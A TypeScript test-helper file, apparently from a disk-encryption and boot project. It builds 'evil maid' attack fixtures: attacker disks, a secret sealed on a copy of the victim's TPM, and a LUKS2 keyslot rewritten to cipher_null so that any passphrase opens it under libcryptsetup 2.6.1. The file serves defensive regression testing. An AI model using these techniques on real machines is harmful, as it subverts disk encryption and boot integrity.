// What the evil maid of issue #23 brings to an installed machine, made on the host: disks of
// her own (a GPT disk whose partitions are given volume images), a secret she seals herself on
// a copy of the victim's TPM with tpm2-tools, a plain LUKS2 volume with a token of her choosing,
// and the victim's disk with one of her volumes where its pool volume was. And the line the
// test root prints about what it sees (test/root/init.c, INITOS-SEEN).
import { type ChildProcess, execFileSync, spawn, spawnSync } from "node:child_process";
import { createDecipheriv, createHash, pbkdf2Sync, randomBytes, randomUUID } from "node:crypto";
import { closeSync, openSync, readFileSync, readSync, rmSync, statSync, writeFileSync, writeSync } from "node:fs";
import { freePortPair, waitForPort } from "../swtpm-ports.ts";

const MiB = 1 << 20;

/**
 * A GPT disk whose partition i+1 holds `volumes[i]` byte for byte (1 MiB aligned, each as big as
 * its image rounded up to a MiB): the attacker's USB disk, with her volume as /dev/vdX1.
 */
export function gptDisk(out: string, volumes: string[]): string {
  const sizes = volumes.map((v) => Math.ceil(statSync(v).size / MiB));
  rmSync(out, { force: true });
  execFileSync("truncate", ["-s", `${2 + sizes.reduce((a, b) => a + b, 0)}M`, out]);
  const table = ["label: gpt", ...sizes.map((s, i) => `${i === 0 ? "start=2048, " : ""}size=${s * 2048}, name="her-${i + 1}"`)].join("\n");
  execFileSync("sfdisk", ["-q", out], { input: `${table}\n` });
  volumes.forEach((v, i) => putVolume(out, i + 1, v));
  return out;
}

/** Writes `volume` at the start of partition `n` of `disk` (in place, zeros too: not sparse, so nothing of what was there shows through her header). */
export function putVolume(disk: string, n: number, volume: string): void {
  const t = JSON.parse(execFileSync("sfdisk", ["--json", disk], { encoding: "utf8" })) as { partitiontable: { partitions: { start: number; size: number }[] } };
  const p = t.partitiontable.partitions[n - 1];
  if (!p) throw new Error(`${disk}: no partition ${n}`);
  if (statSync(volume).size > p.size * 512) throw new Error(`${volume} does not fit partition ${n} of ${disk}`);
  execFileSync("dd", [`if=${volume}`, `of=${disk}`, "bs=512", `seek=${p.start}`, "conv=notrunc", "status=none"]);
}

/**
 * A LUKS2 volume (PBKDF2 at 1000 iterations) opened by `passphrase`, holding nothing but zeros,
 * with `token` imported as token 0 when given: a backup drive, or a copy of the victim's token
 * on a volume her key does not open.
 */
export function luksVolume(out: string, passphrase: string, token?: Record<string, unknown>): string {
  rmSync(out, { force: true });
  execFileSync("truncate", ["-s", "40M", out]);
  execFileSync("cryptsetup", ["luksFormat", "--type", "luks2", "--pbkdf", "pbkdf2", "--pbkdf-force-iterations", "1000", "--batch-mode", "--key-file", "-", out], { input: passphrase });
  if (token) execFileSync("cryptsetup", ["token", "import", "--token-id", "0", out], { input: JSON.stringify(token) });
  return out;
}

/**
 * The attacker's own sealed object, made as she would from any OS on the victim's machine
 * (here: tpm2-tools on the host, against swtpm running `stateDir`, a copy of the victim's TPM
 * state): `tpm2_create` under the persistent SRK 0x81000001 with the policy digest copied
 * from the victim's token (tpm2-policy-hash). Creating a sealed object needs no PCR state,
 * only the digest. Returns systemd's tpm2-blob: TPM2B_PRIVATE then TPM2B_PUBLIC.
 */
export async function sealOnVictimTpm(stateDir: string, policyHashHex: string, secret: Buffer, work: string): Promise<Buffer> {
  const port = await freePortPair();
  const swtpm: ChildProcess = spawn(
    "swtpm",
    ["socket", "--tpm2", "--tpmstate", `dir=${stateDir}`, "--server", `type=tcp,port=${port},bindaddr=127.0.0.1`, "--ctrl", `type=tcp,port=${port + 1},bindaddr=127.0.0.1`, "--flags", "not-need-init,startup-clear"],
    { stdio: "ignore" },
  );
  try {
    await waitForPort(port + 1, 10_000);
    writeFileSync(`${work}/policy.bin`, Buffer.from(policyHashHex, "hex"));
    writeFileSync(`${work}/secret.bin`, secret);
    execFileSync(
      "tpm2_create",
      ["-T", `swtpm:host=127.0.0.1,port=${port}`, "-C", "0x81000001", "-L", `${work}/policy.bin`, "-i", `${work}/secret.bin`, "-u", `${work}/sealed.pub`, "-r", `${work}/sealed.priv`],
      { stdio: ["ignore", "ignore", "pipe"] },
    );
    return Buffer.concat([readFileSync(`${work}/sealed.priv`), readFileSync(`${work}/sealed.pub`)]);
  } finally {
    swtpm.kill("SIGKILL");
    rmSync(`${work}/secret.bin`, { force: true });
  }
}

/** 32 random bytes and the LUKS2 passphrase the agent derives from them (diskkey.ts keyslotPassphrase: their base64). */
export function attackerKey(): { secret: Buffer; passphrase: string } {
  const secret = randomBytes(32);
  return { secret, passphrase: secret.toString("base64") };
}

/** What the root that runs says it sees (test/root/init.c print_seen). */
export interface Seen {
  /** The root's mount source, e.g. /dev/mapper/initos-pool0. */
  root: string;
  /** The block devices under it (the dm device's slaves, e.g. vdb3; or the device itself). */
  backing: string;
  /** Every open device-mapper device by name, comma separated ("none" when there is none). */
  open: string;
  /** The btrfs fsids the kernel knows. */
  btrfs: string;
}

export const SEEN_LINE = /INITOS-SEEN root=(\S+) root-backing=(\S+) open=(\S+) btrfs=(\S+)\r?\n/;

export function seenIn(output: string): Seen | null {
  const m = SEEN_LINE.exec(output);
  return m ? { root: m[1]!, backing: m[2]!, open: m[3]!, btrfs: m[4]! } : null;
}

/** Every line of `output` matching `re` (no g flag needed), without the trailing \r. */
export function linesMatching(output: string, re: RegExp): string[] {
  return output.split("\n").map((l) => l.replace(/\r$/, "")).filter((l) => re.test(l));
}

/** LUKS2 binary header fields used here (cryptsetup's luks2.h, struct luks2_hdr_disk). */
const HDR = { hdrSize: 8, checksumAlg: 72, csum: 448, binSize: 4096 } as const;

/**
 * Rewrites keyslot `slot` of the LUKS2 volume `image` (opened by `passphrase`) in place so that
 * its area is "encrypted" with cipher_null-ecb: the keyslot area is decrypted once with the key
 * PBKDF2 derives from the passphrase (aes-xts-plain64, 512-byte sectors, the IV the sector number
 * within the area, as libcryptsetup's storage wrapper does), written back as plaintext, and both
 * header copies get the new "encryption" and their sha256 checksums again. The data segment is
 * left as it is (aes-xts with the volume key she knows).
 *
 * Why by hand: libcryptsetup 2.6.1 refuses to CREATE a cipher_null keyslot
 * (LUKS2_keyslot_cipher_incompatible), but nothing on its OPEN path looks at the keyslot's cipher:
 * luks2_keyslot_get_key derives a key from whatever passphrase it is given, and
 * crypt_cipher_init_kernel sets the key length to 0 for cipher_null, so the "decryption" is the
 * identity, AF_merge yields the stored volume key, and its digest matches: any passphrase opens
 * the keyslot. That needs the kernel's ecb(cipher_null) through AF_ALG. Measured on this host
 * (cryptsetup 2.6.1, OpenSSL 3.0 backend): AF_ALG is not available (socket(AF_ALG) fails with
 * EAFNOSUPPORT) and there is no device-mapper, so `cryptsetup luksFormat --cipher cipher_null-ecb`
 * fails ("Userspace crypto wrapper cannot use cipher_null-ecb (-95)", then no dm to fall back
 * to) and `open --test-passphrase` cannot read such a keyslot here with any key. The guest's
 * kernel has both: the old-code run of scenario (c) is where the any-key behaviour is measured.
 * Measured there (agent before the pool-identity fix, its libcryptsetup 2.6.1, 2026-12-07): the
 * victim's unsealed key, which never opened anything of hers, opened this keyslot
 * ("initos: unlock: opened /dev/vda1 with keyslot 0 in 194ms"), her root ran from it and saw the
 * victim's volume open beside it ("INITOS-SEEN ... root-backing=vda1 open=initos-pool0,initos-pool1").
 */
export function nullCipherKeyslot(image: string, passphrase: string, slot = 0): void {
  const meta = JSON.parse(execFileSync("cryptsetup", ["luksDump", "--dump-json-metadata", image], { encoding: "utf8" })) as {
    keyslots: Record<string, { key_size: number; area: { offset: string; size: string; encryption: string; key_size: number }; kdf: { type: string; hash: string; iterations: number; salt: string }; af: { stripes: number; hash: string } }>;
  };
  const ks = meta.keyslots[String(slot)];
  if (!ks) throw new Error(`${image}: no keyslot ${slot}`);
  if (ks.kdf.type !== "pbkdf2" || ks.area.encryption !== "aes-xts-plain64") throw new Error(`${image}: keyslot ${slot} is ${ks.kdf.type}/${ks.area.encryption}; expected pbkdf2/aes-xts-plain64`);
  const key = pbkdf2Sync(passphrase, Buffer.from(ks.kdf.salt, "base64"), ks.kdf.iterations, ks.area.key_size, ks.kdf.hash);
  // The AF-split key: key_size * stripes bytes, rounded up to whole sectors (AF_split_sectors).
  const bytes = Math.ceil((ks.key_size * ks.af.stripes) / 512) * 512;
  const offset = Number(ks.area.offset);
  const fd = openSync(image, "r+");
  try {
    const area = Buffer.alloc(bytes);
    readSync(fd, area, 0, bytes, offset);
    for (let s = 0; s < bytes / 512; s++) {
      const iv = Buffer.alloc(16);
      iv.writeUInt32LE(s, 0);
      const d = createDecipheriv(`aes-${(ks.area.key_size / 2) * 8}-xts`, key, iv).setAutoPadding(false);
      const plain = Buffer.concat([d.update(area.subarray(s * 512, (s + 1) * 512)), d.final()]);
      plain.copy(area, s * 512);
    }
    writeSync(fd, area, 0, bytes, offset);
    // Both header copies: the primary at 0, the secondary right after it (at hdr_size).
    const first = Buffer.alloc(HDR.binSize);
    readSync(fd, first, 0, HDR.binSize, 0);
    const hdrSize = Number(first.readBigUInt64BE(HDR.hdrSize));
    for (const at of [0, hdrSize]) {
      const hdr = Buffer.alloc(hdrSize);
      readSync(fd, hdr, 0, hdrSize, at);
      const jsonEnd = hdr.indexOf(0, HDR.binSize);
      const json = JSON.parse(hdr.subarray(HDR.binSize, jsonEnd).toString("utf8")) as typeof meta;
      json.keyslots[String(slot)]!.area.encryption = "cipher_null-ecb";
      const text = Buffer.from(JSON.stringify(json), "utf8");
      if (text.length >= hdrSize - HDR.binSize) throw new Error("LUKS2 JSON does not fit its area");
      hdr.fill(0, HDR.binSize);
      text.copy(hdr, HDR.binSize);
      const alg = hdr.subarray(HDR.checksumAlg, HDR.checksumAlg + 32).toString("latin1").replace(/\0.*$/s, "");
      if (alg !== "sha256") throw new Error(`LUKS2 header checksum ${alg}; expected sha256`);
      hdr.fill(0, HDR.csum, HDR.csum + 64);
      createHash("sha256").update(hdr).digest().copy(hdr, HDR.csum);
      writeSync(fd, hdr, 0, hdrSize, at);
    }
  } finally {
    closeSync(fd);
  }
  const after = JSON.parse(execFileSync("cryptsetup", ["luksDump", "--dump-json-metadata", image], { encoding: "utf8" })) as typeof meta;
  if (after.keyslots[String(slot)]?.area.encryption !== "cipher_null-ecb") throw new Error(`${image}: keyslot ${slot} was not rewritten`);
}

/** Whether `passphrase` opens a keyslot of the volume image `volume` (a bare LUKS2 file, no partition table). */
export function volumeOpens(volume: string, passphrase: string): boolean {
  return spawnSync("cryptsetup", ["open", "--test-passphrase", "--key-file", "-", volume], { input: passphrase }).status === 0;
}

/**
 * New random PARTUUIDs for partitions `parts` of `disk`: a copy of the victim's disk booted next
 * to the victim's own would otherwise carry the same ESP PARTUUIDs, which the ESP stage refuses
 * (two partitions match LoaderDevicePartUUID) before any volume is looked at.
 */
export function newPartUuids(disk: string, parts: number[]): void {
  for (const n of parts) execFileSync("sfdisk", ["-q", "--part-uuid", disk, String(n), randomUUID()]);
}
